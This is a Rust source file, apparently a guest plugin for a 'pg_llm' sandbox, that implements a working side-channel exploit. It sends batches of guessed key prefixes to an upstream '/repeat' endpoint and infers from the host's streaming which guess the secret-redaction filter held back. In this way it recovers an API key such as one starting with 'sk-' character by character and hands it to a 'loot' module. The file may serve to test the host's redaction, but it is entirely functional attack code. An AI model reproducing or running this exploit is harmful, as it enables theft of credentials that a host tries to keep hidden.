//! Guesses a key, character by character, from how the host takes it out of what the upstream repeats.
//!
//! Whoever looks for a secret in a stream holds back an end that may be a secret's beginning. If the guest can tell that something was held back, then it learns
//! that its guess, which it had the upstream repeat, is right; and one response can try every next character.

use pg_llm_guest::bindings::provider::pg_llm::guest::http;
use pg_llm_guest::prelude::*;

use crate::loot;

const ALPHABET: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_";

/// Stands after each guess, so that none is held back for the sake of the next one.
const APART: &str = "                ";

/// `prompt` is the beginning that is known, such as `sk-`. The upstream repeats the body. Tells what it knows at the end.
pub(crate) fn commit(prompt: &str) -> Result<Answer, Failure> {
    let mut known = prompt.to_owned();
    loop {
        let guesses: Vec<String> = ALPHABET.chars().map(|next| format!("{known}{next}")).collect();
        let mut request = HttpRequest::post("/repeat").bearer("default");
        request.body = guesses.iter().flat_map(|guess| [guess.as_str(), APART]).collect::<String>().into_bytes();
        let Ok(response) = http::send(&request) else { return loot::text(known) };
        let mut reader = Reader { response, ahead: 0 };
        let Some(right) = guesses.iter().position(|guess| reader.is_right(guess)) else { return loot::text(known) };
        known.push_str(&ALPHABET[right..=right]);
    }
}

struct Reader {
    response: http::Response,
    /// Bytes that came before they were asked for.
    ahead: usize,
}

impl Reader {
    /// Reads a guess and what sets it apart. Whether the guess was held back as a whole: then it comes together with what follows.
    fn is_right(&mut self, guess: &str) -> bool {
        let is_right = self.ahead == 0 && self.read(guess.len()) > guess.len();
        let all = guess.len() + APART.len();
        // In two pieces, so that what was held back is out before the end is asked for.
        self.read(APART.len() / 2);
        while self.ahead < all {
            if self.read(all - self.ahead) == 0 {
                return false;
            }
        }
        self.ahead -= all;
        is_right
    }

    fn read(&mut self, length: usize) -> usize {
        let bytes = u32::try_from(length).ok().and_then(|length| self.response.read(length).ok()).unwrap_or_default();
        self.ahead += bytes.len();
        bytes.len()
    }
}
